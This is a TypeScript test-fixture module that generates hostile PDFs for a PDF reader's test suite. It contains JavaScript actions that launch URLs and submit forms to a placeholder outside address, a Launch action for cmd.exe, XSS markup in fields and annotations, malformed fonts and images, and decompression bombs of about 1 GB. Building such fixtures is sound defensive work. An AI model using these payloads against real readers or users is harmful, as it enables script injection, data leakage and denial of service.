import { constants, deflateRawSync, deflateSync } from "node:zlib";
import { toLatin1 } from "../../lib/bytes/bytes.ts";
import { type Objects, stream } from "../worlds/hostile-pdf.ts";
import { type PageBuild, pagesPdf, words } from "./pdfs.ts";

/** Where nobody of ours is. */
const OUT = "http://198.51.100.7/out";
const MARKUP = `<img src=${OUT} onerror=alert\\(1\\)><script>alert\\(1\\)</script>`;

const a4 = "/MediaBox[0 0 595 842]";
const box = "/Rect[72 500 300 700]/F 4";
const js = `<</S/JavaScript/JS(app.alert\\(1\\); app.launchURL\\("${OUT}"\\); this.submitForm\\("${OUT}"\\);)>>`;
const annotated = (annots: readonly string[], catalog = "", more: Objects = {}): Uint8Array => {
  const numbers = annots.map((_, i) => 100 + i);
  const keys = `${a4}/Annots[${numbers.map((n) => `${n} 0 R`).join(" ")}]`;
  const objects = Object.fromEntries(annots.map((annot, i) => [100 + i, `<</Type/Annot${box}${annot}>>`]));
  return pagesPdf([{ keys }], { ...objects, ...more }, catalog);
};
const one = (content: string, resources = "", more: Objects = {}): Uint8Array =>
  pagesPdf([{ content, keys: `${a4}/Resources<<${resources}/Font<</F1 3 0 R/F9 90 0 R>>>>` }], more);
const form = (content: string, resources = ""): string =>
  stream(content, `/Type/XObject/Subtype/Form/BBox[0 0 600 900]/Resources<<${resources}>>`);
const image = (filter: string, data: string, keys = "/ColorSpace/DeviceGray/BitsPerComponent 8"): string =>
  stream(data, `/Type/XObject/Subtype/Image/Width 64/Height 64${keys}/Filter/${filter}`);
const noise = Array.from({ length: 2000 }, (_, i) => String.fromCharCode((i * 7919 + (i >> 3)) & 255)).join("");
const font = (keys: string): string => `<</Type/Font${keys}/FirstChar 0/LastChar 255/Widths[${"500 ".repeat(256)}]>>`;
const garbageFont = (kind: string, subtype: string, file: string, keys = ""): Uint8Array =>
  one("BT /F9 20 Tf 72 700 Td (garbage) Tj ET", "", {
    90: font(`/Subtype/${subtype}/BaseFont/ABCDEF+Bad/FontDescriptor 91 0 R`),
    91: `<</Type/FontDescriptor/FontName/ABCDEF+Bad/Flags 4/${kind} 92 0 R>>`,
    92: stream(file, keys),
  });

/** A JPEG 2000 codestream of 65,500 pixels each way with nothing in it (ITU-T T.800 Annex A). */
const hugeJpx = (): string => {
  const four = (n: number): string => String.fromCharCode(n >>> 24, (n >> 16) & 255, (n >> 8) & 255, n & 255);
  const size = `\0\0${[65_500, 65_500, 0, 0, 65_500, 65_500, 0, 0].map(four).join("")}\0\x03${"\x07\x01\x01".repeat(3)}`;
  const segment = (marker: string, content: string): string =>
    `\xff${marker}\0${String.fromCharCode(content.length + 2)}${content}`;
  return `\xff\x4f${segment("\x51", size)}${segment("\x52", "\0\0\0\x01\0\x05\x04\x04\0\x01")}${segment("\x5c", `\x40${"\x40".repeat(16)}`)}${segment("\x90", "\0\0\0\0\0\x0e\0\x01")}\xff\x93\xff\xd9`;
};

/** What asks for more than to be looked at. */
export const ACTIVE: Readonly<Record<string, () => Uint8Array>> = {
  "a script on opening": () => pagesPdf([{}], {}, `/OpenAction ${js}`),
  "a script in the name tree": () => pagesPdf([{}], {}, `/Names<</JavaScript<</Names[(a) ${js}]>>>>`),
  "scripts on every event": () =>
    pagesPdf([{ keys: `${a4}/AA<</O ${js}/C ${js}>>` }], {}, `/AA<</WC ${js}/WS ${js}/DS ${js}/WP ${js}/DP ${js}>>`),
  "an address on opening": () => pagesPdf([{}], {}, `/OpenAction<</S/URI/URI(${OUT})>>/URI<</Base(${OUT}/)>>`),
  "links out, to other files, to programs, to forms": () =>
    annotated([
      `/Subtype/Link/A<</S/URI/URI(${OUT})>>`,
      "/Subtype/Link/A<</S/URI/URI(javascript:alert\\(1\\))>>",
      `/Subtype/Link/A<</S/GoToR/F(${OUT}/other.pdf)/D[0/Fit]/NewWindow true>>`,
      "/Subtype/Link/A<</S/Launch/F(cmd.exe)>>",
      `/Subtype/Link/A<</S/SubmitForm/F<</FS/URL/F(${OUT})>>>>`,
      "/Subtype/Link/A<</S/Named/N/Print>>",
      `/Subtype/Link/PA<</S/URI/URI(${OUT})>>/AA<</E ${js}/PV ${js}>>/A ${js}`,
    ]),
  "a form with scripts and buttons": () =>
    annotated(
      [
        `/Subtype/Widget/FT/Tx/T(a)/V(1)/AA<</K ${js}/F ${js}/V ${js}/C ${js}>>/DA(/F1 12 Tf)`,
        `/Subtype/Widget/FT/Btn/Ff 65536/T(b)/A<</S/SubmitForm/F(${OUT})>>/MK<</CA(Send)>>/DA(/F1 12 Tf)`,
        `/Subtype/Widget/FT/Tx/T(${MARKUP})/TU(${MARKUP})/V(${MARKUP})/RV(${MARKUP})/DA(/F1 12 Tf)`,
      ],
      "/AcroForm<</Fields[100 0 R 101 0 R 102 0 R]/CO[100 0 R]/NeedAppearances true/DR<</Font<</F1 3 0 R>>>>>>",
    ),
  "an XFA form": () => pagesPdf([{}], { 80: stream(XFA) }, "/NeedsRendering true/AcroForm<</Fields[]/XFA 80 0 R>>"),
  "files inside, and one that opens by itself": () =>
    annotated(
      ["/Subtype/FileAttachment/FS 80 0 R/Contents(open me)"],
      "/Names<</EmbeddedFiles<</Names[(x.html) 80 0 R]>>>>/Collection<</View/T>>/OpenAction<</S/GoToE/T<</R/C/N(x.html)>>>>",
      {
        80: "<</Type/Filespec/F(x.html)/EF<</F 81 0 R>>>>",
        81: stream(`<script>location="${OUT}"</script>`, "/Type/EmbeddedFile/Subtype/text#2fhtml"),
      },
    ),
  "data that lies elsewhere": () =>
    one("/Im9 Do /Fm9 Do", "/XObject<</Im9 91 0 R/Fm9 92 0 R>>", {
      91: `<</Type/XObject/Subtype/Image/Width 1/Height 1/BitsPerComponent 8/ColorSpace/DeviceGray/Length 0/F<</FS/URL/F(${OUT})>>>>stream\n\nendstream`,
      92: `<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F(${OUT}/x.pdf)/Page 0>>/OPI<</2.0<</Type/OPI/F(${OUT})>>>>/Length 0>>stream\n\nendstream`,
    }),
  "a font that is called like an address": () =>
    one("BT /F9 20 Tf 72 700 Td (letters) Tj ET", "", {
      90: font(`/Subtype/TrueType/BaseFont/x#22#29,url#28#22${OUT.replaceAll("/", "#2f")}#22#29/FontDescriptor 91 0 R`),
      91: `<</Type/FontDescriptor/FontName/a#29;src:url#28${OUT.replaceAll("/", "#2f")}#29/FontFamily(\\);src:url\\(${OUT}\\))/Flags 32>>`,
    }),
  "markup wherever there is text": () =>
    annotated(
      [
        `/Subtype/FreeText/DA(/F1 12 Tf)/Contents(${MARKUP})/RC(<body xmlns="http://www.w3.org/1999/xhtml">${MARKUP}</body>)`,
        `/Subtype/Text/Contents(${MARKUP})/T(${MARKUP})/Subj(${MARKUP})/Popup<</Type/Annot/Subtype/Popup/Open true>>`,
        `/Subtype/Stamp/Name/${"x".repeat(100)}/Contents(${MARKUP})`,
        `/Subtype/Link/A<</S/URI/URI(data:text/html,<script>alert\\(1\\)</script>)>>`,
      ],
      `/Outlines<</First<</Title(${MARKUP})/A ${js}>>>>/PageLabels<</Nums[0<</P(${MARKUP})>>]>>/Lang(${MARKUP})`,
      { [11 + 2]: stream(words(72, 720, MARKUP)) },
    ),
  "films, sounds and models": () =>
    annotated([
      `/Subtype/Movie/Movie<</F(${OUT}/m.mp4)>>/A true`,
      `/Subtype/Screen/A<</S/Rendition/OP 0/JS(app.alert\\(1\\))/R<</S/MR/C<</S/MCD/D(${OUT})>>>>>>`,
      `/Subtype/RichMedia/RichMediaContent<</Assets<</Names[(a.swf)(${OUT})]>>>>`,
      "/Subtype/3D/3DD<</Type/3D/Subtype/U3D>>",
    ]),
};

/** A dynamic form with a script (XFA 3.3). */
const XFA = `<?xml version="1.0"?><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">
<subform name="f"><event activity="initialize"><script contentType="application/x-javascript">xfa.host.gotoURL("${OUT}")</script></event>
<draw><value><exData contentType="text/html"><body xmlns="http://www.w3.org/1999/xhtml"><img src="${OUT}"/></body></exData></value></draw></subform></template></xdp:xdp>`;

/** What breaks readers. */
export const DAMAGED: Readonly<Record<string, () => Uint8Array>> = {
  ...Object.fromEntries(
    ["JPXDecode", "JBIG2Decode", "DCTDecode", "CCITTFaxDecode", "LZWDecode", "RunLengthDecode"].map((filter) => [
      `garbage behind ${filter}`,
      () => one("64 0 0 64 72 700 cm /Im9 Do", "/XObject<</Im9 91 0 R>>", { 91: image(filter, noise) }),
    ]),
  ),
  "a JPEG of 65,500 pixels each way that is not there": () =>
    one("64 0 0 64 72 700 cm /Im9 Do", "/XObject<</Im9 91 0 R>>", {
      91: stream(
        "\xff\xd8\xff\xc0\0\x0b\x08\xff\xdc\xff\xdc\x01\x01\x11\0\xff\xda\0\x08\x01\x01\0\0\x3f\0\0",
        "/Type/XObject/Subtype/Image/Width 65500/Height 65500/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/DCTDecode",
      ),
    }),
  "a JPEG 2000 image of as many": () =>
    one("64 0 0 64 72 700 cm /Im9 Do", "/XObject<</Im9 91 0 R>>", {
      91: stream(hugeJpx(), "/Type/XObject/Subtype/Image/Width 64/Height 64/Filter/JPXDecode"),
    }),
  "an image of four thousand million pixels": () =>
    one("64 0 0 64 72 700 cm /Im9 Do", "/XObject<</Im9 91 0 R>>", {
      91: stream("0", "/Type/XObject/Subtype/Image/Width 65535/Height 65535/ColorSpace/DeviceRGB/BitsPerComponent 16"),
    }),
  "a TrueType font of noise": () => garbageFont("FontFile2", "TrueType", `\0\x01\0\0${noise}`),
  "a CFF font of noise": () => garbageFont("FontFile3", "Type1", `\x01\0\x04\x02${noise}`, "/Subtype/Type1C"),
  "a Type 1 font of noise": () =>
    garbageFont("FontFile", "Type1", `%!FontType1\neexec ${noise}`, "/Length1 12/Length2 2000/Length3 0"),
  "an OpenType font of noise": () => garbageFont("FontFile3", "Type1", `OTTO\0\x04${noise}`, "/Subtype/OpenType"),
  "a form that draws itself": () =>
    one("/Fm9 Do", "/XObject<</Fm9 91 0 R>>", { 91: form("/Fm9 Do", "/XObject<</Fm9 91 0 R>>") }),
  "a letter that is written with itself": () =>
    one("BT /F9 20 Tf 72 700 Td (a) Tj ET", "", {
      90: "<</Type/Font/Subtype/Type3/FontBBox[0 0 1 1]/FontMatrix[1 0 0 1 0 0]/CharProcs<</a 91 0 R>>/Encoding<</Differences[97/a]>>/FirstChar 97/LastChar 97/Widths[1]/Resources<</Font<</F9 90 0 R>>>>>>",
      91: stream("1 0 d0 BT /F9 20 Tf (a) Tj ET"),
    }),
  "a page tree in a circle": () => pagesPdf([{}], { 2: "<</Type/Pages/Count 2/Kids[2 0 R 12 0 R]>>" }),
  "a page that is not there": () => pagesPdf([{}], { 2: "<</Type/Pages/Count 1/Kids[999 0 R]>>" }),
  "a thousand million pages": () => pagesPdf([{}], { 2: "<</Type/Pages/Count 1000000000/Kids[12 0 R]>>" }),
  "no pages": () => pagesPdf([]),
  ...Object.fromEntries(
    [
      "[0 0 1000000 1000000]",
      "[0 0 1000000 1]",
      "[0 0 1 1000000]",
      "[0 0 0.001 0.001]",
      "[0 0 0 0]",
      "[9 9 -9 -9]",
      "[0 0 1e400 1]",
      "(no box)",
    ].map((media) => [`a page of ${media}`, () => pagesPdf([{ keys: `/MediaBox${media}` }])]),
  ),
  "a unit of a thousand million": () => pagesPdf([{ keys: `${a4}/UserUnit 1000000000` }]),
  "cross references that lead nowhere": () => {
    const text = toLatin1(pagesPdf([{}]));
    return Uint8Array.from(text.replace(/startxref\s+\d+/, "startxref\n5"), (c) => c.charCodeAt(0));
  },
};

const packed = (data: string): string => toLatin1(Uint8Array.from(deflateSync(Buffer.from(data, "latin1"))));

/** A zlib stream of the same text over and over, one piece for each MB (RFC 1951 §3.2.3: a piece ends on an octet after a flush). */
function swollen(text: string, megabytes: number): string {
  const data = Buffer.from(text.repeat(Math.ceil(2 ** 20 / text.length)), "latin1");
  const whole = deflateRawSync(data, { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  const piece = toLatin1(Uint8Array.from(whole));
  return `\x78\xda${piece.repeat(megabytes)}\x03\0`;
}

const bomb = (): PageBuild => ({ keys: `${a4}/Resources<</XObject<</X 91 0 R>>>>`, content: "/X Do" });

/** What asks for more time or memory than there is: on page 1, while page 2 is harmless. */
export const HEAVY: Readonly<Record<string, () => Uint8Array>> = {
  "forms within forms, ten thousand million in the end": () => {
    const levels = Array.from({ length: 10 }, (_, i) => [
      91 + i,
      form("/X Do ".repeat(10), `/XObject<</X ${92 + i} 0 R>>`),
    ]);
    return pagesPdf([bomb(), {}], { ...Object.fromEntries(levels), 101: form("0 0 9 9 re f") });
  },
  "ten thousand million dashes": () =>
    pagesPdf([{ content: "[0.00001] 0 d 0.1 w ".concat("0 0 m 100000 100000 l S ".repeat(1000)) }, {}]),
  "a pattern of the smallest tiles": () =>
    pagesPdf(
      [
        {
          keys: `${a4}/Resources<</Pattern<</P 91 0 R>>>>`,
          content: "/Pattern cs /P scn 0 0 595 842 re f ".repeat(200),
        },
        {},
      ],
      {
        91: stream(
          "0 0 1 1 re f",
          "/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 100000 100000]/XStep 0.001/YStep 0.001/Resources<<>>",
        ),
      },
    ),
  "a content that unpacks to 200 MB": () =>
    pagesPdf([{}, {}], { 13: stream(swollen("0 0 m 9 9 l S\n", 200), "/Filter/FlateDecode") }),
};

/** What unpacks to a thousand times its size, on page 1. */
export const BOMBS: Readonly<Record<string, () => Uint8Array>> = {
  "a content that unpacks twice, to 1 GB": () =>
    pagesPdf([{}, {}], {
      13: stream(packed(swollen(" ", 1024)), "/Filter[/FlateDecode/FlateDecode]"),
    }),
  "an image that unpacks to 1 GB": () =>
    pagesPdf([{ keys: `${a4}/Resources<</XObject<</X 91 0 R>>>>`, content: "99 0 0 99 72 700 cm /X Do" }, {}], {
      91: image("FlateDecode", swollen(" ", 1024)),
    }),
};
